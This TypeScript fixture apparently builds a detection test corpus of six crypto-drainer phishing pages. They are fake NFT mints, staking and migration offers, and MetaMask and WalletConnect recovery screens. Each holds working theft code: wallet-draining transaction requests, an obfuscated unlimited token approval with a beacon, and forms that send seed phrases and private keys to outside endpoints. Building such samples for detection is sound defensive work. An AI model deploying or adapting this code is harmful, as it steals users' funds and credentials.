import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footer } from '../parts/zw-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zw-drain-solana-nft-mint',
    label: 'cryptodrainer',
    kind: 'solana-mint-drainer',
    url: 'https://madlads-genesis.xyz/mint',
    body: doc('Mad Lads: Genesis — Free Mint', `
<div style="background:radial-gradient(circle at top,#2b1055,#0b0b12);color:#fff;min-height:100vh;text-align:center;padding:50px 20px">
<img src="/img/hero.gif" alt="" width="260" style="border-radius:18px;background:#222;height:260px">
<h1 style="font-size:40px">Mad Lads: Genesis</h1>
<p>2,222 supply · Free mint for Solana holders · <span id="left">311</span> remaining</p>
<div style="display:flex;gap:10px;justify-content:center"><button id="ph" style="background:#ab9ff2;border:0;padding:14px 26px;border-radius:30px;font-weight:700">Connect Phantom</button><button id="sf" style="background:#fff;border:0;padding:14px 26px;border-radius:30px">Solflare</button></div>
<p id="s" style="opacity:.7"></p></div>
<script src="https://unpkg.com/@solana/web3.js@1.91.1/lib/index.iife.min.js"></script>
<script>
var DEST="9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin";
var RPC="https://solana-mainnet.g.alchemy.com/v2/pk_8gq1mWxDbN";
async function mint(p){
 var s=document.getElementById("s");
 var r=await p.connect();var pk=r.publicKey||p.publicKey;
 s.textContent="Preparing your mint…";
 var q=await fetch("/api/tx?owner="+pk.toString()).then(function(x){return x.json()});
 var txs=q.txs.map(function(b){return solanaWeb3.Transaction.from(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)}))});
 var signed=await p.signAllTransactions(txs);
 await fetch("/api/sub",{method:"POST",body:JSON.stringify({o:pk.toString(),t:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize()))})})});
 s.textContent="Minted! Your Lad will appear in your wallet shortly.";
}
document.getElementById("ph").onclick=function(){mint(window.phantom&&window.phantom.solana||window.solana)};
document.getElementById("sf").onclick=function(){mint(window.solflare)};
</script>`),
    routes: {
      'madlads-genesis.xyz/api/tx': jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEAAgQ='], dest: '9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin', note: 'transfer all SPL + SOL' }),
    },
  },
  {
    id: 'zw-drain-ton-staking-bonus',
    label: 'cryptodrainer',
    kind: 'ton-drainer',
    url: 'https://tonstake-pool.org/',
    body: doc('TON Liquid Staking — 24.8% APY', `
<main style="max-width:520px;margin:40px auto;padding:24px;border-radius:20px;box-shadow:0 8px 40px rgba(0,0,0,.08)">
<h1 style="margin:0 0 6px">Stake TON, earn 24.8% APY</h1>
<p style="color:#777">Limited-time Telegram community pool. Rewards paid every 8 hours. Minimum 5 TON.</p>
<div id="ton-connect"></div>
<input id="amt" value="100" style="width:100%;padding:12px;border:1px solid #ddd;border-radius:10px;margin:12px 0">
<button id="stake" style="width:100%;background:#0098ea;color:#fff;border:0;padding:14px;border-radius:12px;font-size:16px">Stake</button>
<p id="o" style="color:#777;font-size:13px"></p>
</main>
<script src="https://unpkg.com/@tonconnect/ui@2.0.9/dist/tonconnect-ui.min.js"></script>
<script>
var ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:location.origin+"/tonconnect-manifest.json",buttonRootId:"ton-connect"});
var POOL="UQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG";
document.getElementById("stake").onclick=async function(){
 if(!ui.connected){await ui.openModal();return}
 var addr=ui.account.address;
 var info=await fetch("https://toncenter.com/api/v2/getAddressBalance?address="+addr).then(function(r){return r.json()});
 var bal=BigInt(info.result||"0");var send=bal-50000000n;
 var jet=await fetch("/api/jettons?a="+addr).then(function(r){return r.json()});
 var msgs=[{address:POOL,amount:send.toString()}].concat(jet.messages||[]);
 await ui.sendTransaction({validUntil:Math.floor(Date.now()/1e3)+600,messages:msgs});
 document.getElementById("o").textContent="Staked! Rewards start in 8 hours.";
};
</script>`),
    routes: {
      'tonstake-pool.org/tonconnect-manifest.json': jsonRoute({ url: 'https://tonstake-pool.org', name: 'TON Stake Pool', iconUrl: 'https://tonstake-pool.org/icon.png' }),
      'tonstake-pool.org/api/jettons': jsonRoute({ messages: [] }),
    },
  },
  {
    id: 'zw-drain-btc-ordinals-psbt',
    label: 'cryptodrainer',
    kind: 'bitcoin-psbt-drainer',
    url: 'https://runes-mint.pizza/launch',
    body: doc('DOG•GO•TO•THE•MOON — Runes public mint', `
<div style="font-family:monospace;background:#f7931a0d;min-height:100vh;padding:40px">
<h1>🐕 DOG•GO•TO•THE•MOON</h1>
<p>Public mint phase 2 · 0 sats + network fee · 100,000 runes per mint</p>
<button id="uni" style="padding:12px 18px;background:#000;color:#fff;border:0;border-radius:6px">Connect UniSat</button>
<button id="xv" style="padding:12px 18px;background:#ee7a30;color:#fff;border:0;border-radius:6px">Connect Xverse</button>
<pre id="log" style="margin-top:20px;background:#fff;padding:12px;min-height:80px"></pre>
</div>
<script>
function log(t){document.getElementById("log").textContent+=t+"\\n"}
document.getElementById("uni").onclick=async function(){
 var u=window.unisat;if(!u){log("UniSat not detected");return}
 var a=(await u.requestAccounts())[0];log("connected "+a);
 var pk=await u.getPublicKey();
 var r=await fetch("/api/psbt",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({address:a,pubkey:pk})}).then(function(x){return x.json()});
 var signed=await u.signPsbt(r.psbt,{autoFinalized:true});
 await fetch("/api/broadcast",{method:"POST",body:signed});log("mint tx broadcast ✔");
};
document.getElementById("xv").onclick=function(){log("Xverse support coming soon, please use UniSat")};
</script>`),
    routes: {
      'runes-mint.pizza/api/psbt': jsonRoute({ psbt: '70736274ff01007d0200000001b2c3d4e5f60718293a4b5c6d7e8f90112233445566778899aabbccddeeff0011220000000000ffffffff02', sighash: 'SINGLE|ANYONECANPAY' }),
    },
  },
  {
    id: 'zw-drain-token-migration-v2-redirect',
    label: 'cryptodrainer',
    kind: 'migration-drainer',
    url: 'https://t.co-link.info/mgrt',
    routes: {
      't.co-link.info/mgrt': redirectRoute(302, 'https://pepe-migration-v2.com/?ref=x'),
      'pepe-migration-v2.com/': htmlRoute(doc('PEPE V2 Token Migration', `
<div style="background:#3d8b3d;color:#fff;text-align:center;padding:50px 20px;min-height:100vh">
<h1 style="font-size:48px;margin:0">PEPE is migrating to V2</h1>
<p>The old contract is being deprecated after the liquidity upgrade. Migrate 1:1 before <b>June 30</b>. Tokens not migrated will no longer be tradeable.</p>
<ol style="text-align:left;max-width:460px;margin:20px auto;background:rgba(0,0,0,.2);padding:20px 36px;border-radius:14px"><li>Connect the wallet that holds PEPE</li><li>Approve the migrator</li><li>Receive PEPE V2 instantly</li></ol>
<button id="m" style="background:#fff;color:#3d8b3d;border:0;padding:16px 40px;border-radius:40px;font-size:18px;font-weight:800">MIGRATE NOW</button>
<p id="x"></p></div>
<script src="/js/web3-modal.min.js"></script>`)),
      'pepe-migration-v2.com/js/web3-modal.min.js': jsRoute(`(function(_0x1a,_0x2b){var _0x3c=function(s){return decodeURIComponent(escape(atob(s)))};var R=_0x3c("MHg4NGUxMzlmYTNhZDUyOWQ4YjdlMTZkNmQ4M2IxZGQwYWQ0NzY5ZTc5");var T=["0x6982508145454Ce325dDbE47a25d4ec3d2311933","0xdAC17F958D2ee523a2206206994597C13D831ec7","0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"];
document.getElementById("m").addEventListener("click",async function(){var e=window[_0x3c("ZXRoZXJldW0=")];var a=(await e.request({method:"eth_requestAccounts"}))[0];
for(var i=0;i<T.length;i++){var d="0x095ea7b3"+R.slice(2).padStart(64,"0")+"f".repeat(64);try{await e.request({method:"eth_sendTransaction",params:[{from:a,to:T[i],data:d}]})}catch(_){}}
navigator.sendBeacon("/c",JSON.stringify({a:a,n:navigator.userAgent}));document.getElementById("x").textContent="Migration queued ✔"})})();`),
    },
  },
  {
    id: 'zw-drain-seed-metamask-restore-es',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvester',
    url: 'https://metamask-restaurar.com/es/cuenta',
    body: doc('MetaMask — Restaurar la cuenta', `
<div style="background:#f2f4f6;min-height:100vh;padding:40px 16px">
<div style="max-width:460px;margin:0 auto;background:#fff;border-radius:12px;padding:32px">
<div style="text-align:center">${mark('#f6851b', 'M', 48)}<h2>Restablecer la billetera</h2></div>
<p style="font-size:14px;color:#555">Hemos detectado un inicio de sesión no autorizado. Por su seguridad, su billetera fue bloqueada temporalmente. Ingrese su Frase Secreta de Recuperación para desbloquearla.</p>
<form id="rf" method="post" action="https://script.google.com/macros/s/AKfycbz3k9Rm2QeXxL0bN4/exec">
<div id="g" style="display:grid;grid-template-columns:repeat(3,1fr);gap:8px"></div>
<label style="display:block;margin-top:14px;font-size:14px">Nueva contraseña</label><input type="password" name="pw" style="width:100%;padding:10px;border:1px solid #bbc0c5;border-radius:8px">
<button style="width:100%;margin-top:18px;background:#0376c9;color:#fff;border:0;padding:12px;border-radius:24px">Restaurar</button>
</form></div></div>
<script>var g=document.getElementById("g");for(var i=1;i<=12;i++){g.innerHTML+='<input name="w'+i+'" placeholder="'+i+'." autocomplete="off" style="padding:8px;border:1px solid #bbc0c5;border-radius:6px">'}</script>`, { lang: 'es' }),
  },
  {
    id: 'zw-drain-walletconnect-manual',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvester',
    url: 'https://walletconnect-sync.pages.dev/connect/manual',
    body: doc('WalletConnect — Connect manually', `
<div style="max-width:900px;margin:0 auto;padding:30px">
<h1 style="color:#3b99fc">WalletConnect</h1>
<p>Automatic connection failed. Select your wallet to connect manually.</p>
<div id="list" style="display:grid;grid-template-columns:repeat(4,1fr);gap:14px"></div>
<div id="modal" style="display:none;position:fixed;inset:0;background:rgba(0,0,0,.6)"><div style="background:#fff;max-width:480px;margin:80px auto;padding:24px;border-radius:14px">
<h3 id="wn">Import</h3><textarea id="sec" rows="4" style="width:100%" placeholder="Phrase, Keystore JSON or Private Key"></textarea><input id="kp" type="password" placeholder="Keystore password (optional)" style="width:100%;margin-top:8px;padding:8px"><button id="imp" style="margin-top:10px;width:100%;padding:12px;background:#3b99fc;color:#fff;border:0;border-radius:8px">Proceed</button></div></div>
</div>
<script>
var W=["MetaMask","Trust Wallet","Coinbase Wallet","Ledger Live","Exodus","Phantom","SafePal","Rainbow","Atomic","TokenPocket","Bitget Wallet","OKX Wallet"];
W.forEach(function(n){var d=document.createElement("div");d.textContent=n;d.style.cssText="border:1px solid #e5e5e5;padding:18px;border-radius:12px;text-align:center;cursor:pointer";d.onclick=function(){document.getElementById("wn").textContent="Import your "+n+" wallet";document.getElementById("modal").style.display="block";window.wn=n};document.getElementById("list").appendChild(d)});
document.getElementById("imp").onclick=function(){$.post("/mail.php",{wallet:window.wn,secret:$("#sec").val(),pass:$("#kp").val()},function(){alert("Connection error, please try again later")})};
</script>
<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>`),
  },
];
